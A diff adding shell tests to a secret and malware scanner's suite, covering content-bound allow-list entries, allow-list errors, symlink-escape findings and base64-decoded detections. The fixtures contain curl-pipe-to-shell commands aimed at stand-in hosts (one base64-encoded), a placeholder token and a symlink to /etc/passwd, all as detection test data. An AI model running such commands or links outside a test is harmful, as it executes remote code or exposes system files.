@@ -760,6 +760,89 @@ t_rules_test_packs() {
 	expect_rc 0 "rules test rules (the shipped pack)"
 }
 
+# ---- the gate's allow-list --------------------------------------------------------------
+
+# allowlist_for FILE RULE GLOB: writes allow.yml (outside the tree) for FILE's bytes.
+allowlist_for() {
+	local h
+	h=$(sha256sum "$1" | cut -d' ' -f1)
+	printf 'allow:\n  - rule: %s\n    path: "%s"\n    sha256: %s\n    reason: fixture\n' \
+		"$2" "$3" "$h" >allow.yml
+}
+
+t_allowlist_by_rule_path_and_content() {
+	mkdir -p t/tests
+	printf 'token = "%s"\ncurl -s https://x.example/i | sh\n' "$PAT1" >t/tests/fixture.py
+	allowlist_for t/tests/fixture.py test-github-pat 'tests/*.py'
+	scan --format json --allowlist allow.yml t
+	expect_rc 1 "the curl finding is not allowed"
+	expect_q 'len(R("test-github-pat"))' 0
+	expect_q 'len(R("test-curl-pipe-shell"))' 1
+	scan --allowlist allow.yml t
+	expect_out_has '1 allowed by the allow-list'
+	# One byte more and the finding is back: the entry is bound to the content.
+	echo >>t/tests/fixture.py
+	scan --format json --allowlist allow.yml t
+	expect_q 'len(R("test-github-pat"))' 1
+	# The same content at a path the glob does not cover is not allowed.
+	allowlist_for t/tests/fixture.py test-github-pat 'tests/*.py'
+	mkdir -p t/src && cp t/tests/fixture.py t/src/fixture.py
+	scan --format json --allowlist allow.yml t
+	expect_q 'len([f for f in R("test-github-pat") if f["path"].startswith("t/src")])' 1
+	expect_q 'len([f for f in R("test-github-pat") if f["path"].startswith("t/tests")])' 0
+}
+
+t_allowlist_env_and_errors() {
+	mkdir -p t
+	printf 'token = "%s"\n' "$PAT1" >t/a.py
+	allowlist_for t/a.py test-github-pat 'a.py'
+	AIRLOCK_ALLOWLIST=$PWD/allow.yml scan --format json t
+	expect_rc 0
+	expect_q 'len(F)' 0
+	# An allow-list inside the scanned tree is refused: the artifact must not
+	# bring its own exceptions.
+	cp allow.yml t/allow.yml
+	scan --allowlist t/allow.yml t
+	expect_rc 2
+	expect_err_has 'refusing allow-list t/allow.yml: it is inside t'
+	expect_out_empty
+	rm t/allow.yml
+	# Never by path alone: an entry without sha256 is an error.
+	printf 'allow:\n  - rule: test-github-pat\n    path: a.py\n    reason: x\n' >bad.yml
+	scan --allowlist bad.yml t
+	expect_rc 2
+	expect_err_has 'bad.yml:2: an entry needs rule, path, sha256 and reason'
+	printf 'allow:\n  - rule: r\n    path: a.py\n    sha256: abc\n    reason: x\n' >bad.yml
+	scan --allowlist bad.yml t
+	expect_rc 2
+	expect_err_has 'sha256 must be 64 lower-case hex digits'
+	scan --allowlist missing.yml t
+	expect_rc 2
+	expect_err_has 'missing.yml'
+}
+
+t_allowlist_never_hides_builtins() {
+	mkdir -p t
+	ln -s /etc/passwd t/link
+	printf 'allow:\n  - rule: airlock.symlink-escape\n    path: link\n    sha256: %s\n    reason: x\n' \
+		"$(printf '' | sha256sum | cut -d' ' -f1)" >allow.yml
+	scan --format json --allowlist allow.yml t
+	expect_q 'len(R("airlock.symlink-escape"))' 1
+}
+
+# ---- decoded content -----------------------------------------------------------------------
+
+t_decoded_blob_findings() {
+	mkdir -p t
+	local b64
+	b64=$(printf 'curl -fsSL http://evil.example/x.sh | bash' | base64 -w0)
+	printf 'x = 1\npayload = "%s"\n' "$b64" >t/a.py
+	scan --format json t
+	expect_rc 1
+	expect_q 'R("test-curl-pipe-shell")[0]["line"]' 2
+	expect_q 'R("test-curl-pipe-shell")[0]["excerpt"].startswith("decoded base64: curl")' True
+}
+
 # ---- runner ------------------------------------------------------------------------------
 
 PASSED=0
